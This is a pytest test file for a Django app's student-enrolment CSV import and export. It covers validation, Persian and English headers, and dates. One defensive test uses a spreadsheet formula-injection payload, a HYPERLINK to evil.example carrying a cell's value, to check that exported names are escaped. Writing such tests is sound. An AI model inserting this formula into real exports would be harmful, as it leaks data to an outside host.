import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from teams.importing import check_rows
from teams.models import Enrolment, Student

pytestmark = pytest.mark.django_db

HEADER = "email,full_name,student_number,field,level,entry_year,weekly_hours\n"


def upload(client, round_, text, name="students.csv"):
    return client.post(
        "/en/enrolments/import/",
        {
            "round": round_.pk,
            "file": SimpleUploadedFile(name, text.encode("utf-8-sig")),
        },
    )


def test_a_valid_list_is_imported_whole(client, world, iro):
    client.force_login(iro)
    text = HEADER + (
        "a@uni.example,آرش,401000001,mechanical,bsc,1401,10\n"
        "b@uni.example,بهار,۴۰۳۰۰۰۰۰۲,مهندسی صنایع,msc,۱۴۰۳,۸\n"
        "c@uni.example,Cyrus,402000003,Civil Engineering,bsc,1402,12\n"
    )

    response = upload(client, world.objects["round"], text)

    assert response.status_code == 302
    numbers = set(Student.objects.values_list("student_number", flat=True))
    assert {"401000001", "403000002", "402000003"} <= numbers
    assert Enrolment.objects.filter(round=world.objects["round"]).count() == 5


def test_levels_are_read_as_the_portal_labels_them(client, world, iro):
    client.force_login(iro)
    text = HEADER + (
        "a@uni.example,آرش,404999001,mechanical,BSc,1404,10\n"
        "b@uni.example,بهار,404999002,industrial,MSC,1404,8\n"
        "c@uni.example,Cyrus,404999003,industrial,کارشناسی ارشد,1404,12\n"
        "d@uni.example,Dara,404999004,mechanical,کارشناسي,1404,12\n"
        "e@uni.example,Elham,404999005,industrial,Master's (MSc),1404,12\n"
    )

    response = upload(client, world.objects["round"], text)

    assert response.status_code == 302
    levels = Student.objects.filter(student_number__startswith="404999")
    assert list(levels.order_by("student_number").values_list("level", flat=True)) == [
        "bsc", "msc", "msc", "bsc", "msc"
    ]  # fmt: skip


def test_an_unknown_level_is_a_bad_row(client, world, iro):
    client.force_login(iro)

    response = upload(
        client,
        world.objects["round"],
        HEADER + "z@uni.example,Z,401000009,mechanical,PhD,1402,5\n",
    )

    assert "Unknown level “\u2068PhD\u2069”: write BSc or MSc." in (
        response.content.decode()
    )
    assert not Student.objects.filter(student_number="401000009").exists()


def test_one_bad_row_imports_nothing_and_lists_every_bad_line(client, world, iro):
    client.force_login(iro)
    before = (Student.objects.count(), Enrolment.objects.count())
    text = HEADER + (
        "a@uni.example,آرش,401000001,mechanical,bsc,1401,10\n"
        "not-an-email,بهار,403000002,industrial,msc,1403,8\n"
        "c@uni.example,Cyrus,402000003,astrology,bsc,1402,12\n"
        "d@uni.example,Dara,401000001,mechanical,bsc,1401,10\n"
    )

    response = upload(client, world.objects["round"], text)

    html = response.content.decode()
    assert response.status_code == 200
    assert (Student.objects.count(), Enrolment.objects.count()) == before
    assert "Nothing was imported: 3 rows need fixing." in html
    assert "Line 3" in html and "email: Enter a valid email address." in html
    # The name typed is isolated (FSI … PDI) inside the sentence.
    assert "Line 4" in html
    assert "Unknown field of study “\u2068astrology\u2069”." in html
    assert "Line 5" in html and "Same student_number as line 2." in html


def test_a_number_already_taken_by_another_student_is_a_bad_row(client, world, iro):
    client.force_login(iro)
    taken = world.objects["enrolment"].student.student_number

    response = upload(
        client,
        world.objects["round"],
        HEADER + f"z@uni.example,Z,{taken},computer,bsc,1402,5\n",
    )

    assert "Another student already has this number." in response.content.decode()


def test_missing_columns_are_named(client, world, iro):
    client.force_login(iro)

    response = upload(client, world.objects["round"], "email,full_name\nx@y.z,X\n")

    assert (
        "Missing columns: student_number, field, level, entry_year, weekly_hours"
        in (response.content.decode())
    )


def test_a_file_that_is_not_utf8_is_refused_next_to_the_field(client, world, iro):
    client.force_login(iro)

    response = client.post(
        "/en/enrolments/import/",
        {
            "round": world.objects["round"].pk,
            "file": SimpleUploadedFile("s.csv", "نام".encode("cp1256")),
        },  # fmt: skip
    )

    assert "Save it as “CSV UTF-8”" in response.context["form"].errors["file"][0]


def test_the_export_is_the_filtered_list_as_csv(client, world, iro):
    client.force_login(iro)

    response = client.get(
        reverse("teams:enrolment-export"), {"status": "trained", "format": "machine"}
    )

    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith("\ufeff")
    assert rows[0][:3] == ["student_number", "full_name", "email"]
    assert [row[0] for row in rows[1:]] == [
        world.objects["enrolment"].student.student_number
    ]


def export(client, path="/enrolments/export/", **query):
    response = client.get(path, query)
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_the_export_for_persian_readers_has_persian_headers_and_jalali_dates(
    client, world, iro
):
    client.force_login(iro)

    header, *rows = export(client)

    assert header[:3] == ["شماره دانشجویی", "نام و نام خانوادگی", "نشانی ایمیل"]
    applied = rows[0][header.index("تاریخ ثبت‌نام")]
    # Jalali, with Latin digits a spreadsheet sorts as numbers.
    assert re.fullmatch(r"14\d\d/\d\d/\d\d", applied), applied
    # A translated label, never the code.
    assert rows[0][header.index("وضعیت")] not in {s.value for s in Enrolment.Status}


def test_the_export_for_english_readers_has_english_headers_and_iso_dates(
    client, world, iro
):
    client.force_login(iro)

    header, *rows = export(client, "/en/enrolments/export/")

    assert header[:3] == ["Student number", "Full name", "E-mail address"]
    assert re.fullmatch(r"20\d\d-\d\d-\d\d", rows[0][header.index("Date applied")])


def test_the_machine_export_is_the_same_in_every_language(client, world, iro):
    client.force_login(iro)

    persian = export(client, format="machine")
    english = export(client, "/en/enrolments/export/", format="machine")

    assert persian == english
    assert persian[0] == [
        "student_number", "full_name", "email", "field", "level", "entry_year",
        "round", "status", "weekly_hours", "applied_at",
    ]  # fmt: skip
    assert persian[1][persian[0].index("status")] in {s.value for s in Enrolment.Status}


def test_the_machine_export_imports_back_without_a_bad_row(client, world, iro):
    client.force_login(iro)
    rows = export(client, format="machine")
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)

    checked, rejected = check_rows(buffer.getvalue())

    assert rejected == []
    assert len(checked) == len(rows) - 1 > 0


FORMULA = '=HYPERLINK("http://evil.example/?x="&C2,"Open")'


@pytest.mark.parametrize(
    "layout", [{}, {"format": "machine"}], ids=["people", "machine"]
)
def test_a_name_that_looks_like_a_formula_is_exported_as_text(
    client, world, iro, layout
):
    user = world.objects["enrolment"].student.user
    user.full_name = FORMULA
    user.save()
    client.force_login(iro)

    header, *rows = export(client, "/en/enrolments/export/", **layout)

    names = [row[1] for row in rows]
    assert "'" + FORMULA in names
    assert FORMULA not in names


def test_an_escaped_cell_is_read_back_as_typed(world):
    checked, rejected = check_rows(
        HEADER + "a@uni.example,'-Arash,401000001,mechanical,bsc,1401,10\n"
    )

    assert rejected == []
    assert checked[0]["full_name"] == "-Arash"


def test_a_list_with_cr_only_line_ends_is_imported(client, world, iro):
    client.force_login(iro)
    text = (
        HEADER + "a@uni.example,Arash,401000001,mechanical,bsc,1401,10\n"
        "b@uni.example,Bahar,403000002,industrial,msc,1403,8\n"
    ).replace("\n", "\r")

    response = upload(client, world.objects["round"], text)

    assert response.status_code == 302
    assert (
        Student.objects.filter(student_number__in=["401000001", "403000002"]).count()
        == 2
    )


def test_a_cell_longer_than_the_csv_limit_is_a_bad_row_not_an_error(client, world, iro):
    client.force_login(iro)
    text = HEADER + (
        "a@uni.example,Arash,401000001,mechanical,bsc,1401,10\n"
        f"b@uni.example,{'x' * 140_000},403000002,industrial,msc,1403,8\n"
    )

    response = upload(client, world.objects["round"], text)

    html = response.content.decode()
    assert response.status_code == 200
    assert "Line 3" in html and "This line cannot be read" in html
    assert not Student.objects.filter(student_number="401000001").exists()
